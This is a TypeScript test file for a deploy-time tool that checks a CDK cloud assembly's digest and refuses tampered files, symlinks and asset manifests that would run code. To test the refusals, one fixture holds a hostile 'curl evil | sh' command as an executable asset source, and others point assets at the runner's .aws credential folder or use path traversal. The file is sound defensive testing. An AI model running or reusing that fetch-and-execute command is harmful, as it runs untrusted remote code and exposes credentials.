import { spawnSync } from 'node:child_process';
import { mkdirSync, mkdtempSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { afterAll, describe, expect, test } from 'vitest';
import {
  ArtifactRefused,
  assetProblems,
  FILE_LIST,
  record,
  verify,
} from '../../deploy/verify-artifact/main.js';

const root = fileURLToPath(new URL('../../../', import.meta.url));
const script = join(root, 'scripts/deploy/verify-artifact/main.ts');

const scratch: string[] = [];
afterAll(() => {
  for (const dir of scratch) rmSync(dir, { recursive: true, force: true });
});

const destination = {
  'current_account-current_region': {
    bucketName: 'cdk-hnb659fds-assets-123456789012-eu-west-1',
    objectKey: 'abc.zip',
    assumeRoleArn:
      'arn:aws:iam::123456789012:role/cdk-hnb659fds-file-publishing-role-123456789012-eu-west-1',
  },
};

/** A cloud assembly shaped like footfall's: a template, a zipped file asset, a folder asset. */
function assembly(assets: Record<string, unknown> = {}) {
  const dir = mkdtempSync(join(tmpdir(), 'footfall-assembly-'));
  scratch.push(dir);
  writeFileSync(join(dir, 'manifest.json'), '{"version":"55.0.0","artifacts":{}}');
  writeFileSync(join(dir, 'Footfall.template.json'), '{"Resources":{}}');
  writeFileSync(join(dir, 'asset.aaa.zip'), 'zip bytes');
  mkdirSync(join(dir, 'asset.bbb'));
  writeFileSync(join(dir, 'asset.bbb', 'index.mjs'), 'export const handler = () => 1;');
  writeFileSync(join(dir, 'asset.bbb', '.hidden'), 'uploaded too');
  writeFileSync(
    join(dir, 'Footfall.assets.json'),
    JSON.stringify({
      version: '55.0.0',
      files: {
        aaa: {
          displayName: 'Site/AwsCliLayer',
          source: { path: 'asset.aaa.zip', packaging: 'file' },
          destinations: destination,
        },
        bbb: {
          displayName: 'Api/Function/Code',
          source: { path: 'asset.bbb', packaging: 'zip' },
          destinations: destination,
        },
      },
      dockerImages: {},
      ...assets,
    }),
  );
  return dir;
}

const refusal = (run: () => unknown) => {
  try {
    run();
  } catch (error) {
    expect(error).toBeInstanceOf(ArtifactRefused);
    return (error as ArtifactRefused).reasons;
  }
  throw new Error('not refused');
};

describe('verify-artifact: the assembly deployed is the one synth built', () => {
  test('a good artifact passes: every file, hidden ones included, as recorded', () => {
    const dir = assembly();
    const digest = record(dir);
    expect(digest).toMatch(/^[0-9a-f]{64}$/);
    expect(verify(dir, digest)).toEqual({ files: 6 });
    // The same files record the same digest: it names the content, not the run.
    expect(record(dir)).toBe(digest);
  });

  test('a tampered file fails the digest, and says which', () => {
    const dir = assembly();
    const digest = record(dir);
    writeFileSync(join(dir, 'Footfall.template.json'), '{"Resources":{"Evil":{}}}');
    expect(refusal(() => verify(dir, digest))).toEqual([
      'Footfall.template.json: changed since the synth job built it',
    ]);
  });

  test('an added or a removed file fails too', () => {
    const added = assembly();
    const digest = record(added);
    writeFileSync(join(added, 'asset.bbb', 'extra.js'), '');
    expect(refusal(() => verify(added, digest))).toEqual([
      'asset.bbb/extra.js: not in what the synth job built',
    ]);
    const removed = assembly();
    const before = record(removed);
    rmSync(join(removed, 'asset.aaa.zip'));
    expect(refusal(() => verify(removed, before))).toEqual(['asset.aaa.zip: missing']);
  });

  test('a file list rewritten to match a swapped artifact fails against the recorded digest', () => {
    const dir = assembly();
    const digest = record(dir);
    writeFileSync(join(dir, 'Footfall.template.json'), '{"Resources":{"Evil":{}}}');
    // Whoever swapped the artifact can rewrite its list, but not the synth job's output.
    const forged = record(dir);
    expect(forged).not.toBe(digest);
    expect(refusal(() => verify(dir, digest))[0]).toContain(
      `${FILE_LIST} is not the list the synth job recorded`,
    );
    rmSync(join(dir, FILE_LIST));
    expect(refusal(() => verify(dir, digest))[0]).toContain(`${FILE_LIST} is missing`);
  });

  test('an empty digest (the synth job output nothing) is refused, not taken as a pass', () => {
    const dir = assembly();
    record(dir);
    expect(refusal(() => verify(dir, ''))[0]).toContain('the recorded digest is not a SHA-256');
  });

  test('a link in the artifact is refused: it could point anywhere on the runner', () => {
    const dir = assembly();
    symlinkSync('/etc/hostname', join(dir, 'asset.bbb', 'link'));
    expect(refusal(() => record(dir))).toEqual(['asset.bbb/link: not a regular file or folder']);
  });
});

describe('verify-artifact: asset manifests that would run code are refused', () => {
  test('a file asset with an executable source is refused', () => {
    const dir = assembly({
      files: {
        ccc: {
          displayName: 'Build/Step',
          source: { executable: ['sh', '-c', 'curl evil | sh'] },
          destinations: destination,
        },
      },
    });
    expect(assetProblems(dir)).toEqual([
      'Footfall.assets.json: file asset Build/Step has an executable source (the CDK CLI would run it)',
    ]);
    // At synth, before anything is uploaded, and again where the token is.
    expect(refusal(() => record(dir))).toHaveLength(1);
  });

  test('a Docker image asset is refused, from a directory or an executable', () => {
    const dir = assembly({
      dockerImages: {
        ddd: { displayName: 'Api/Image', source: { directory: 'asset.ddd' }, destinations: {} },
        eee: { source: { executable: ['./build-image.sh'] }, destinations: {} },
      },
    });
    expect(assetProblems(dir)).toEqual([
      'Footfall.assets.json: Docker image asset Api/Image (the CDK CLI would build it; footfall has none)',
      'Footfall.assets.json: Docker image asset eee (the CDK CLI would build it; footfall has none)',
    ]);
  });

  test('a file asset whose files lie outside the assembly is refused', () => {
    for (const path of ['/home/runner/.aws', '../outside', 'asset.bbb/../../outside']) {
      const dir = assembly({
        files: { fff: { source: { path, packaging: 'zip' }, destinations: destination } },
      });
      expect(assetProblems(dir), path).toEqual([
        `Footfall.assets.json: file asset fff takes its files from outside the assembly (${path})`,
      ]);
    }
  });

  test('a nested assembly’s manifests are read too', () => {
    const dir = assembly();
    mkdirSync(join(dir, 'assembly-Stage'));
    writeFileSync(
      join(dir, 'assembly-Stage', 'Stage.assets.json'),
      JSON.stringify({ version: '55.0.0', files: {}, dockerImages: { x: {} } }),
    );
    expect(assetProblems(dir)).toHaveLength(1);
  });

  test('an asset manifest added after synth is caught by the digest and by the asset check', () => {
    const dir = assembly();
    const digest = record(dir);
    writeFileSync(
      join(dir, 'Other.assets.json'),
      JSON.stringify({ files: { g: { source: { executable: ['node', 'x.js'] } } } }),
    );
    expect(refusal(() => verify(dir, digest))).toEqual([
      'Other.assets.json: not in what the synth job built',
      'Other.assets.json: file asset g has an executable source (the CDK CLI would run it)',
    ]);
  });
});

describe('verify-artifact as a program', () => {
  const run = (...args: string[]) =>
    spawnSync(join(root, 'node_modules/.bin/tsx'), [script, ...args], {
      encoding: 'utf8',
      timeout: 60_000,
    });

  test('record prints the digest as a job output line; verify passes on it and fails on a change', () => {
    const dir = assembly();
    const recorded = run('record', dir);
    expect(recorded.status, recorded.stderr).toBe(0);
    expect(recorded.stdout).toMatch(/^digest=[0-9a-f]{64}\n$/);
    const digest = recorded.stdout.trim().slice('digest='.length);
    const good = run('verify', dir, digest);
    expect(good.status, good.stderr).toBe(0);
    expect(good.stdout).toContain('6 files, each as the synth job built it');
    writeFileSync(join(dir, 'asset.aaa.zip'), 'other bytes');
    const bad = run('verify', dir, digest);
    expect(bad.status).toBe(1);
    expect(bad.stderr).toContain('✗');
    expect(bad.stderr).toContain('asset.aaa.zip: changed since the synth job built it');
    expect(run('verify', dir).status).toBe(2);
  });
});
